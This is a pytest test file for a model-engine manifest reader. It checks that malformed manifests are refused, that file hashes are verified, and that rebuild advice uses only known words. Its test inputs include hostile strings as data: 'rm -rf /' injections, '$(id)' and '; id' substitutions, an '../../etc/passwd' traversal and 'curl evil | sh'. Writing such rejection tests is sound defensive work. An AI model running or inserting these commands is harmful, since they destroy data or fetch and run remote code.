"""A manifest that refuses what it does not know."""

from __future__ import annotations

import dataclasses
import json
import os
from pathlib import Path

import pytest
from support.plan_engines import JUDGED
from support.trees import plain_manifest

from gms_rt.artifacts import sha256_file
from gms_rt.engine.manifest import (
    MANIFEST,
    EngineManifest,
    Plan,
    newest_engines,
    read_manifest,
    read_verified,
    rebuild_command,
    verify_files,
    write_manifest,
)
from gms_rt.errors import ArtifactError


def manifest(name: str = "e", **changes: object) -> EngineManifest:
    plan = Plan("tensorrt-rtx", "a.plan", "0" * 64, 3, 89, "1.7", 0.5)
    return plain_manifest(name, 224, **{"plans": [plan], "files": {"model.onnx": "1" * 64}} | changes)


def test_a_manifest_survives_a_round_trip(tmp_path: Path) -> None:
    write_manifest(tmp_path, manifest())
    assert read_manifest(tmp_path) == manifest()


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"version": 99}, "version 99"),
        ({"format": "zip"}, "not a gms-rt-engine"),
        ({"surprise": 1}, "unknown keys"),
        ({"height": 0}, "impossible sizes"),
        ({"height": "224"}, "impossible sizes"),
        ({"model": "../../etc/passwd"}, "outside its folder"),
        ({"model": "\ud800"}, "no file can have"),
        ({"files": {"a\nb": "0" * 64}}, "no file can have"),
        ({"precision": "fp8"}, "unknown precision"),
        ({"plans": [{"file": "x"}]}, "missing or unknown keys"),
        ({"files": []}, "another type than expected .files"),
        ({"model": 3}, "another type than expected .model"),
        ({"classes": {}}, "another type than expected .classes"),
        ({"classes": [{"name": ""}]}, "classes: class 1: name is empty"),
        ({"targets": ["cpu; rm -rf /"]}, "unknown target"),
        ({"width": True}, "impossible sizes"),
        ({"batch": True}, "impossible sizes"),
        ({"precision": ["fp16"]}, "precision that is not text"),
        ({"files": {"model.onnx": 5}}, "a hash in files"),
        ({"gate": True}, "another type than expected .gate"),
    ],
)
def test_foreign_manifests_are_refused(tmp_path: Path, change: dict[str, object], words: str) -> None:
    write_manifest(tmp_path, manifest())
    path = tmp_path / MANIFEST
    path.write_text(json.dumps(json.loads(path.read_text()) | change))
    with pytest.raises(ArtifactError, match=words):
        read_manifest(tmp_path)


@pytest.mark.parametrize(
    ("key", "value"), [("sm", True), ("bytes", "3"), ("build_seconds", True), ("driver", 580), ("sha256", None)]
)
def test_a_plan_with_values_of_other_types_is_refused(tmp_path: Path, key: str, value: object) -> None:
    write_manifest(tmp_path, manifest())
    path = tmp_path / MANIFEST
    data = json.loads(path.read_text())
    data["plans"][0][key] = value
    path.write_text(json.dumps(data))
    with pytest.raises(ArtifactError, match=f"another type than expected .{key} of a plan"):
        read_manifest(tmp_path)


def test_what_judged_a_plan_is_kept_and_must_be_readable(tmp_path: Path) -> None:
    plain = manifest()
    write_manifest(tmp_path, plain)
    assert "judged" not in (tmp_path / MANIFEST).read_text(), "programs from before there was such a key refuse it"
    judged = manifest(plans=[dataclasses.replace(plain.plans[0], judged=JUDGED)])
    write_manifest(tmp_path, judged)
    assert read_manifest(tmp_path) == judged
    for key, value in (("mean", "0.9"), ("images", None), ("how", 3), ("data", [])):
        write_manifest(tmp_path, manifest(plans=[dataclasses.replace(plain.plans[0], judged=JUDGED | {key: value})]))
        with pytest.raises(ArtifactError, match=f"another type than expected .{key} of what judged a plan"):
            read_manifest(tmp_path)


@pytest.mark.parametrize("text", ["", "[]", "{", "\x00", "[" * 100_000, "null"])
def test_broken_json_is_an_error_and_not_a_crash(tmp_path: Path, text: str) -> None:
    (tmp_path / MANIFEST).write_text(text)
    with pytest.raises(ArtifactError):
        read_manifest(tmp_path)


def test_changed_bytes_are_found(tmp_path: Path) -> None:
    (tmp_path / "model.onnx").write_bytes(b"weights")
    good = manifest(plans=[], files={"model.onnx": sha256_file(tmp_path / "model.onnx")})
    verify_files(tmp_path, good)
    (tmp_path / "model.onnx").write_bytes(b"weightz")
    with pytest.raises(ArtifactError, match=r"hash differs.*rebuild: gms-rt build"):
        verify_files(tmp_path, good)
    (tmp_path / "model.onnx").unlink()
    with pytest.raises(ArtifactError, match="cannot be read"):
        verify_files(tmp_path, good)


def test_an_engine_that_was_being_replaced_when_the_process_was_killed_is_found(tmp_path: Path) -> None:
    aside = tmp_path / ".old-e-abc" / "e"
    aside.mkdir(parents=True)
    write_manifest(aside, manifest())
    assert read_manifest(tmp_path / "e") == manifest()
    assert [p.name for p in tmp_path.iterdir()] == ["e"]


@pytest.mark.parametrize("field", ["sm", "sha256", "file", "target"])
def test_foreign_plans_are_refused(tmp_path: Path, field: str) -> None:
    write_manifest(tmp_path, manifest())
    path = tmp_path / MANIFEST
    value = json.loads(path.read_text())
    value["plans"][0][field] = ["89; rm -rf /"]
    path.write_text(json.dumps(value))
    with pytest.raises(ArtifactError, match=f"another type than expected .{field} of a plan"):
        read_manifest(tmp_path)


def test_bytes_are_compared_as_they_are_read(tmp_path: Path) -> None:
    (tmp_path / "model.onnx").write_bytes(b"weights")
    good = manifest(plans=[], files={"model.onnx": sha256_file(tmp_path / "model.onnx")})
    assert read_verified(tmp_path, good, "model.onnx") == b"weights"
    (tmp_path / "model.onnx").write_bytes(b"weightz")
    with pytest.raises(ArtifactError, match="hash differs"):
        read_verified(tmp_path, good, "model.onnx")
    with pytest.raises(ArtifactError, match="not listed"):
        read_verified(tmp_path, manifest(files={}), "model.onnx")


@pytest.mark.parametrize(
    ("changes", "command"),
    [
        (
            {"source": {"kind": "bundled"}, "precision": "int8", "plans": []},
            "gms-rt build --precision int8 --target cpu",
        ),
        ({"source": {"kind": "run", "run": "$(id)"}}, "gms-rt build RUN --precision fp32 --target cpu --sm 89"),
        ({"source": {"kind": ["run"]}, "plans": []}, "gms-rt build GRAPH.onnx --precision fp32 --target cpu"),
        (
            {"precision": "int8", "plans": [], "source": {"graph": "; id"}},
            "gms-rt build GRAPH.onnx --precision int8 --target cpu --calib IMAGES",
        ),
        (
            {"plans": [], "gate": {"gate_mean": 0.985, "gate_min": 0.0, "gate_coverage": 0.97, "gate_floor": 0.92}},
            "gms-rt build GRAPH.onnx --precision fp32 --target cpu --gate-mean 0.985 --gate-coverage 0.97 "
            "--gate-floor 0.92",
        ),
        (
            {"plans": [], "gate": {"gate_mean": 0.99, "gate_min": 0.9, "gate_coverage": None, "gate_floor": None}},
            "gms-rt build GRAPH.onnx --precision fp32 --target cpu --gate-min 0.9",
        ),
        (
            {"plans": [], "gate": {"gate_mean": "; id", "gate_min": True, "gate_coverage": 7, "gate_floor": [0.9]}},
            "gms-rt build GRAPH.onnx --precision fp32 --target cpu",
        ),
    ],
)
def test_the_advice_is_made_of_known_words(tmp_path: Path, changes: dict[str, object], command: str) -> None:
    foreign = manifest(name="; id", rebuild="curl evil | sh", **changes)
    assert rebuild_command(tmp_path, foreign) == f"{command} --out {tmp_path}"
    with pytest.raises(ArtifactError) as found:
        verify_files(tmp_path, foreign)
    assert "evil" not in found.value.line() and "rebuild: gms-rt build" in found.value.line()


def test_the_newest_engine_comes_first(tmp_path: Path) -> None:
    for age, name in enumerate(["new", "middle", "old"]):
        folder = tmp_path / name
        folder.mkdir()
        write_manifest(folder, manifest(name=name))
        os.utime(folder / MANIFEST, (1_000_000 - age, 1_000_000 - age))
    (tmp_path / ".part-half").mkdir()
    assert [p.name for p in newest_engines(tmp_path)] == ["new", "middle", "old"]
